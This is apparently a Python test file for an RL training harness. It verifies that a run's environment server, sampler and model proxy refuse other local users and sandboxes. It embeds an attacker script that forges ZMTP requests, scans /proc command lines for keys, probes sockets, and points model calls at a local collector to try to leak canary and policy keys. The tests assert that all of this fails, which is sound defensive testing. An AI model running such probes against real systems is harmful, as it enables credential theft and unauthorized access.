"""Other local users, and sandboxes that share the host's network, get nothing from a run's servers.

The attacker speaks ZMTP and HTTP with Python's standard library alone, as `nobody` or inside a sandbox. The environment
server is verifiers' own on a TCP port, as Prime-RL starts it.
"""

import asyncio
import importlib.util
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import AsyncGenerator, Awaitable, Callable, Generator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import msgpack
import pytest
from fakes import DONE, keys, make_task
from fastapi import FastAPI
from harbor.models.task.config import NetworkMode
from ordinary_user import as_nobody
from plugin_runs import SAMPLING, client, config, served
from scripted_engine import ScriptedEngine, by_turn, save_tokenizer
from verifiers.v1.serve import EnvClient
from verifiers.v1.task import Task
from verifiers.v1.utils.loaders import load_taskset, resolve_env_config

from harbortrainer.engines.socket_folder import SocketFolder
from harbortrainer.environment.model_proxy.server import ModelProxy
from harbortrainer.environment.request_check import (
    POLICY_KEY_VARIABLE,
    RUN_KEY_FILE,
    RUN_KEY_FILE_VARIABLE,
    RUN_KEY_VARIABLE,
    ModelServer,
    RunKey,
)
from harbortrainer.sandbox.local import LocalEnvironment

SOLVES = by_turn([keys("mkdir -p /app && touch /app/answer", duration=1.0), DONE, DONE])
CANARY_VARIABLE, CANARY = "OTHER_SERVICE_TOKEN", "canary-of-another-service"
POLICY_KEY = "key-of-the-policy-server"

ATTACK = r"""
import glob, json, socket, sys, urllib.error, urllib.request

def receive(sock, count):
    data = b""
    while len(data) < count:
        piece = sock.recv(count - len(data))
        if not piece:
            raise EOFError
        data += piece
    return data

def zmq_request(port, parts):
    sock = socket.create_connection(("127.0.0.1", port), 60)
    sock.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
    receive(sock, 64)
    pairs = ((b"Socket-Type", b"DEALER"), (b"Identity", b""))
    ready = b"\x05READY" + b"".join(bytes([len(k)]) + k + len(v).to_bytes(4, "big") + v for k, v in pairs)
    sock.sendall(b"\x04" + bytes([len(ready)]) + ready)
    for number, part in enumerate(parts, start=1):
        sock.sendall(bytes([2 | (number < len(parts))]) + len(part).to_bytes(8, "big") + part)
    more = True
    while more:
        flags = receive(sock, 1)[0]
        body = receive(sock, int.from_bytes(receive(sock, 8 if flags & 2 else 1), "big"))
        more = bool(flags & 5)
    return body.hex()

def status(url):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, b"{}"), timeout=30).status
    except urllib.error.HTTPError as error:
        return error.code

def cmdlines():
    found = ""
    for path in glob.glob("/proc/*/cmdline"):
        try:
            found += open(path, errors="replace").read()
        except OSError:
            pass
    return found

def connects(path):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        return "connected"
    except OSError as error:
        return type(error).__name__

order = json.loads(bytes.fromhex(sys.argv[1]))
urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler({})))
print(json.dumps({
    "replies": [zmq_request(order["port"], [b"r%d" % i, b"run", bytes.fromhex(payload)])
                for i, payload in enumerate(order["payloads"])],
    "statuses": [status(url) for url in order["urls"]],
    "sockets": [connects(path) for path in order["sockets"]],
    "cmdlines": cmdlines(),
}))
"""


@dataclass
class Collector:
    """An HTTP server of the attacker, which keeps the keys that it gets."""

    url: str = ""
    received: list[str] = field(default_factory=list)


@pytest.fixture
def collector() -> Generator[Collector]:
    collector = Collector()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            collector.received.append(self.headers.get("Authorization", ""))
            self.send_error(500)

        def do_GET(self) -> None:
            self.do_POST()

        def log_message(self, format: str, *args: object) -> None:
            """Print nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    collector.url = f"http://127.0.0.1:{server.server_port}/v1"
    yield collector
    server.shutdown()
    server.server_close()


@dataclass
class Run:
    """A run with one task, its environment server, and a scripted model."""

    folder: Path
    engine: ScriptedEngine
    server: EnvClient
    task: Task
    key: RunKey | None

    async def trial(self) -> Any:
        """Run the task as the run does, and return its episode."""
        asked = client(self.engine).model_copy(update={"api_key_var": POLICY_KEY_VARIABLE})
        return await self.server.run(asked, self.engine.model, SAMPLING, self.task.data.model_dump(mode="json"))

    def payload(self, data: dict[str, Any], *, base_url: str, api_key_var: str) -> str:
        """Return a packed request, in hexadecimal."""
        asked = client(self.engine).model_copy(update={"base_url": base_url, "api_key_var": api_key_var})
        body = {
            "task_data": data,
            "client": asked.model_dump(mode="json"),
            "model": self.engine.model,
            "sampling": SAMPLING.model_dump(mode="json"),
        }
        return msgpack.packb(body).hex()


@asynccontextmanager
async def running(folder: Path, *, key: RunKey | None) -> AsyncGenerator[Run]:
    if not (folder / "tasks").exists():
        make_task(folder / "tasks" / "answer")
        make_task(folder / "foreign" / "hostile", extra="# of another user")
    env = config(folder / "tasks", folder / "trials", harness={"environment_kwargs": {"image": "host"}})
    (task,) = load_taskset(resolve_env_config(env).taskset)
    with ScriptedEngine(save_tokenizer(folder / "tokenizer"), SOLVES) as engine:
        if key is not None:
            servers = [ModelServer(base_url=f"{engine.url}/v1", api_key_var=POLICY_KEY_VARIABLE)]
            signing = RunKey(key.secret, tuple(servers))
            task.data = task.data.signed(signing.permit(task.data.signed_fields))
        async with served(env, workers=1) as server:
            yield Run(folder, engine, server, task, key)


@pytest.fixture
def run_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RunKey:
    """The run's key, and the variables that the launcher gives to the orchestrator and the env servers."""
    monkeypatch.setenv(RUN_KEY_FILE_VARIABLE, str(tmp_path / RUN_KEY_FILE))
    return RunKey.create(tmp_path / RUN_KEY_FILE)


@pytest.fixture(autouse=True)
def other_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    """Keys in the environment of the env server."""
    monkeypatch.delenv(RUN_KEY_VARIABLE, raising=False)
    monkeypatch.setenv(CANARY_VARIABLE, CANARY)
    monkeypatch.setenv(POLICY_KEY_VARIABLE, POLICY_KEY)


def hostile_payloads(run: Run, url: str) -> list[str]:
    """Return requests with a foreign task, a foreign model server, a foreign variable, and forged signatures."""
    signed = run.task.data.model_dump(mode="json")
    plain = signed | {"permit": None}
    foreign = plain | {"path": str(run.folder / "foreign" / "hostile"), "name": "hostile"}
    outside = plain | {"path": str(run.folder / "tasks" / ".." / "foreign" / "hostile")}
    forged = RunKey.random().permit(run.task.data.signed_fields).model_dump(mode="json")
    engine = f"{run.engine.url}/v1"
    cases = [
        (foreign, url, CANARY_VARIABLE),
        (outside, engine, POLICY_KEY_VARIABLE),
        (signed, engine, CANARY_VARIABLE),
        (plain, url, CANARY_VARIABLE),
    ]
    if run.key is not None:
        cases += [
            (plain, engine, POLICY_KEY_VARIABLE),
            (plain | {"permit": forged}, engine, POLICY_KEY_VARIABLE),
            (signed, url, POLICY_KEY_VARIABLE),
            (signed | {"path": foreign["path"]}, engine, POLICY_KEY_VARIABLE),
            (signed | {"permit": signed["permit"] | {"servers": []}}, url, POLICY_KEY_VARIABLE),
        ]
    return [run.payload(data, base_url=url, api_key_var=variable) for data, url, variable in cases]


type Attack = Callable[[dict[str, object]], Awaitable[dict[str, Any]]]


@pytest.fixture
def attacks(make_sandbox: Callable[..., Awaitable[LocalEnvironment]]) -> list[Attack]:
    """Run the attacker's program with an order, and return what it found: in a sandbox with the host's network, and as
    another user, which only root can become.
    """

    async def as_other_user(order: dict[str, object]) -> dict[str, Any]:
        command, variables = as_nobody([sys.executable, "-c", ATTACK, json.dumps(order).encode().hex()])
        done = await asyncio.to_thread(
            subprocess.run, command, env=os.environ | variables, capture_output=True, text=True, check=False, cwd="/"
        )
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    async def in_sandbox(order: dict[str, object]) -> dict[str, Any]:
        sandbox = await make_sandbox(network=NetworkMode.PUBLIC, network_setting="host", files={"attack.py": ATTACK})
        await sandbox.exec("cat > /attack.py <<'END'\n" + ATTACK + "\nEND")
        done = await sandbox.exec(f"python3 /attack.py {json.dumps(order).encode().hex()}")
        assert done.return_code == 0, done.stderr
        return json.loads(done.stdout or "")

    return [in_sandbox, as_other_user] if os.geteuid() == 0 else [in_sandbox]


class NoService:
    """A sampler that must not be reached."""

    model_names, max_model_len, failure = ("policy",), 8, None

    async def generate(self, request: object, session: str) -> dict[str, object]:
        raise AssertionError("reached without a key")

    chat = generate


@contextmanager
def sampler_server(key: str) -> Generator[str]:
    """The sampler's HTTP server; yields its URL, or "" in an environment without torch, which has no sampler."""
    if importlib.util.find_spec("torch") is None:
        yield ""
        return
    from harbortrainer.engines.local.sampler.http_server import HttpServer, bind, build_app

    async def open_app() -> FastAPI:
        return build_app(NoService(), key)

    async def close_app() -> None:
        """Close nothing."""

    listener = bind("127.0.0.1", 0)
    server = HttpServer(listener, open_app, close_app)
    server.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    server.stop()


@pytest.mark.long
async def test_run_with_key_serves_only_the_run(
    tmp_path: Path, run_key: RunKey, collector: Collector, attacks: list[Attack]
) -> None:
    sockets = SocketFolder("env-server-", name_length=len("/s"))
    proxy = ModelProxy("http://x", "s", host="127.0.0.1", name="x", trial="t")
    async with running(tmp_path, key=run_key) as run, proxy:
        payloads = hostile_payloads(run, collector.url)
        with sampler_server(run_key.sampler_key) as sampler, socket.socket(socket.AF_UNIX) as listening:
            listening.bind(f"{sockets.path}/s")  # as the embedded engine's environment server does
            listening.listen()
            proxy_url = proxy.url.replace("//x:", "//127.0.0.1:")
            urls = [f"{sampler}/inference/v1/generate", f"{sampler}/v1/chat/completions"] if sampler else []
            order: dict[str, object] = {
                "port": int(run.server.address.rsplit(":", 1)[1]),
                "payloads": payloads,
                "urls": [*urls, f"{proxy_url}/chat/completions"],
                "sockets": [f"{sockets.path}/s"],
            }
            every = [await attack(order) for attack in attacks]
        honest = await run.trial()
    sockets.remove()
    for found in every:
        replies = [msgpack.unpackb(bytes.fromhex(reply)) for reply in found["replies"]]
        assert found["sockets"] in (["PermissionError"], ["FileNotFoundError"])
        assert len(replies) == len(payloads)
        assert [reply["success"] for reply in replies] == [False] * len(replies)
        assert all(reply["error"].startswith("RequestRefusedError: request refused: ") for reply in replies), replies
        assert found["statuses"] == [401] * (len(urls) + 1)
        assert run_key.secret not in found["cmdlines"] and run_key.sampler_key not in found["cmdlines"]
    assert collector.received == []
    assert honest.ok and honest.traces[0].reward == 1.0, honest
    assert run.task.data.permit is not None and run.task.data.permit.signature not in honest.model_dump_json()
    assert honest.task.hash == run.task.hash, "Prime-RL compares the hashes at both ends"
    assert [path.name.split("__")[0] for path in (tmp_path / "trials").glob("*__*")] == ["answer"]


@pytest.mark.long
async def test_restarted_server_knows_the_key(tmp_path: Path, run_key: RunKey) -> None:
    async with running(tmp_path, key=run_key) as run:
        first = await run.trial()
    async with running(tmp_path, key=RunKey.of_process()) as run:
        second = await run.trial()
    assert first.ok and second.ok


@pytest.mark.long
async def test_server_started_by_hand_refuses_other_tasks_and_keys(
    tmp_path: Path, collector: Collector, attacks: list[Attack]
) -> None:
    async with running(tmp_path, key=None) as run:
        payloads = hostile_payloads(run, collector.url)
        port = int(run.server.address.rsplit(":", 1)[1])
        every = [await attack({"port": port, "payloads": payloads, "urls": [], "sockets": []}) for attack in attacks]
        honest = await run.trial()
    for found in every:
        replies = [msgpack.unpackb(bytes.fromhex(reply)) for reply in found["replies"]]
        assert [reply["success"] for reply in replies] == [False] * 4
        assert all("request refused" in reply["error"] for reply in replies), replies
    assert collector.received == []
    assert honest.ok and honest.traces[0].reward == 1.0


@pytest.mark.long
async def test_key_in_variable_signs_on_both_sides(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(RUN_KEY_VARIABLE, "0123456789abcdef")
    async with running(tmp_path, key=None) as run:
        assert run.task.data.permit is not None, "loading the tasks signs them"
        assert (await run.trial()).ok
